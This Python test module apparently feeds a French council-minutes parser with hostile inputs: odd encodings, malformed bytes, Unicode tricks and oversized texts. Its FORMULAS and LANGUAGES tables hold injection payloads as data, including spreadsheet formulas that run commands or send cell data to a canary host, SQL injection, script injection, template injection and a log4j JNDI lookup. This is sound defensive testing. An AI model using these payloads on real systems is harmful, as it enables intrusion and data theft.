"""Hostile texts: their encodings, their characters, and words that programs take for their own language."""

from __future__ import annotations

import codecs
from collections.abc import Iterator

from tests.hostile.cases import CANARY, Case, Read, Refused, act, case

ENCODINGS = (
    "utf-8",
    "utf-8-sig",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "utf-32",
    "cp1252",
    "mac_roman",
    "cp850",
    "iso-8859-15",
)
FORMULAS = {
    "equals": "=cmd|'/c calc'!A0",
    "plus": "+1+cmd|'/c calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "link": f'=HYPERLINK("{CANARY}/leak?"&A1,"cliquer")',
    "tab": "\t=1+1",
    "service": f'=WEBSERVICE("{CANARY}")',
}
LANGUAGES = {
    "sql": "'; DROP TABLE acts; --",
    "sql-union": "1 UNION SELECT password FROM users",
    "fts": '"* NEAR( ) AND OR NOT ^ title:x',
    "html": '<script>alert(1)</script> "><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' x='",
    "template": "{{ 7*7 }} {% raise %} ${7*7} #{7*7}",
    "markdown": f"[cliquer](javascript:alert(1)) ![x]({CANARY}/i.png) | a | b |",
    "rich": "[bold red]rouge[/] [link=file:///etc/passwd]x[/link]",
    "format": "%s%s%n {0.__class__} {}",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<h1>",
    "jinja": "{{ config.__class__.__init__.__globals__ }}",
    "log4j": "${jndi:ldap://198.51.100.7/a}",
    "csv": 'a"b;c,d\n"e',
    "json": '"}],"x":{"$ref":"#"}',
    "xml": "]]> <!-- --> <?php system('id'); ?>",
    "url": "javascript:alert(1) data:text/html,<script>",
}


def cases() -> Iterator[Case]:
    for encoding in ENCODINGS:
        words = (
            act(f"en {encoding}")
            if encoding not in ("mac_roman", "cp850", "iso-8859-15")
            else f"Décidé : l'école « {encoding} », où elle décède à l'été, est créée."
        )
        if encoding in ("cp850", "iso-8859-15"):
            words = words.replace("«", "(").replace("»", ")")
        yield case(f"{encoding}.txt", words.encode(encoding), words)
    yield from _bytes()
    yield from _characters()
    yield from _shapes()
    for name, words in FORMULAS.items():
        text = f"Objet : {words}\n{act(f'formule {name}')}"
        yield case(f"formula-{name}.txt", text, text)
    for name, words in LANGUAGES.items():
        text = f"Objet : {words}\n{act(f'langue {name}')}"
        yield case(f"language-{name}.txt", text, text)


def _bytes() -> Iterator[Case]:
    yield case(
        "utf-16-odd.txt",
        codecs.BOM_UTF16_LE + act("impaire").encode("utf-16-le") + b"\x41",
        act("impaire") + "\ufffd",
    )
    yield case(
        "utf-16-surrogate.txt",
        codecs.BOM_UTF16_LE + b"\x00\xd8" + act("orpheline16").encode("utf-16-le"),
        Read("le conseil accorde 1 234,50 € à l'école orpheline16."[3:], part=True),
    )
    yield case("bom-alone.txt", codecs.BOM_UTF8, Refused("empty"))
    yield case("bom-16-alone.txt", codecs.BOM_UTF16_LE, Refused("empty"))
    yield case(
        "bom-twice.txt",
        codecs.BOM_UTF8 * 2 + act("à deux marques").encode(),
        Read(act("à deux marques"), part=True),
    )
    yield case("bom-lies.txt", codecs.BOM_UTF16_BE + act("à marque fausse").encode(), Read("", part=True))
    yield case(
        "mixed.txt", act("mixte").encode() + b" \xe9t\xe9 " + act("mixte").encode(), Read("mixte", part=True)
    )
    yield case(
        "overlong.txt", b"\xc0\xbcscript\xc0\xbe " + act("trop longue").encode(), Read("trop longue", part=True)
    )
    yield case("nul.txt", f"\0{act('nulle') * 3}\0", f"\ufffd{act('nulle') * 3}\ufffd")
    yield case("noise.txt", b"\x01\x02\0\x03" * 500, Refused("format"))
    yield case("random.txt", bytes((n * n * 31 + n) % 256 for n in range(5_000)), Refused("format"))
    yield case("nothing.txt", b"", Refused("empty"))
    yield case("blanks.txt", b" \r\n\t\0" * 100, Refused("empty"))
    yield case("form-feeds.txt", act("à pages") + "\f" * 6_000, Read(act("à pages"), part=True))


def _characters() -> Iterator[Case]:
    chars = {
        "bidi": "\u202egnp.exe\u202c \u2066caché\u2069",
        "zero-width": "é\u200bco\u200cle\u200d \ufeff\u2060",
        "combining": "Z" + "\u0301\u0323\u0489" * 3_000,
        "escape": "\x1b[2J\x1b[31m\x1b]0;titre\x07 \x1b]8;;file:///etc/passwd\x07lien",
        "controls": "a\x07b\x08c" + "\x7f\x85\x9b" * 100,
        "separators": "a\u2028b\u2029c\u0085d",
        "noncharacters": "a\ufffeb\uffffc\U0010ffff",
        "emoji": "👩‍👩‍👧‍👦 🏴‍☠️ 𝔉",
        "tags": "a\U000e0041\U000e0042b",
        "homoglyphs": "Рrésident сonseil",
        "wide": "１２３ ４５６，７８ €",
        "digits": "١٢٣٫٤٥ € २०२३",
        "ligatures": "ﬁn ﷽ ﷺ ß İ ı",
    }
    for name, words in chars.items():
        text = f"{words}\n{act(f'caractères {name}')}"
        yield case(f"chars-{name}.txt", text, text)


def _shapes() -> Iterator[Case]:
    line = "mot " * 50_000
    yield case("line-long.txt", line + act("d'une ligne"), line + act("d'une ligne"))
    word = "a" * 600_000
    yield case("word-long.txt", f"{word} {act('à mot long')}", f"{word} {act('à mot long')}")
    yield case("too-many.txt", "mot " * 600_000, Refused("too-large"))
    yield case("too-big.txt", b"mot " * 2_600_000, Refused("too-large"))
    digits = "1" * 200_000
    yield case(
        "digits-long.txt",
        f"{digits} € et {digits},{digits} %\n{act('à chiffres')}",
        Read(act("à chiffres"), part=True),
    )
    lines = "\n" * 200_000
    yield case("lines-empty.txt", f"{lines}{act('à lignes')}", f"{lines}{act('à lignes')}")
    brackets = "(" * 2_000 + "[" * 2_000
    yield case("brackets.txt", f"{brackets}\n{act('à crochets')}", f"{brackets}\n{act('à crochets')}")
    names = "M. Jean DUPONT-LAJOIE, " * 5_000
    yield case("names-many.txt", f"Présents : {names}\n{act('à noms')}", f"Présents : {names}\n{act('à noms')}")
    amounts = "12,50 € " * 5_000
    yield case("amounts-many.txt", f"{amounts}\n{act('à montants')}", f"{amounts}\n{act('à montants')}")
    acts = "".join(f"DÉLIBÉRATION N° {n}\nObjet : {n}\n" for n in range(100))
    yield case("acts-many.txt", f"{acts}{act('à actes')}", f"{acts}{act('à actes')}")
    dates = "le 31 février 2023, le 99/99/9999, le 1er janvier 0000, l'an deux mille mille mille"
    yield case("dates-impossible.txt", f"{dates}\n{act('à dates')}", f"{dates}\n{act('à dates')}")
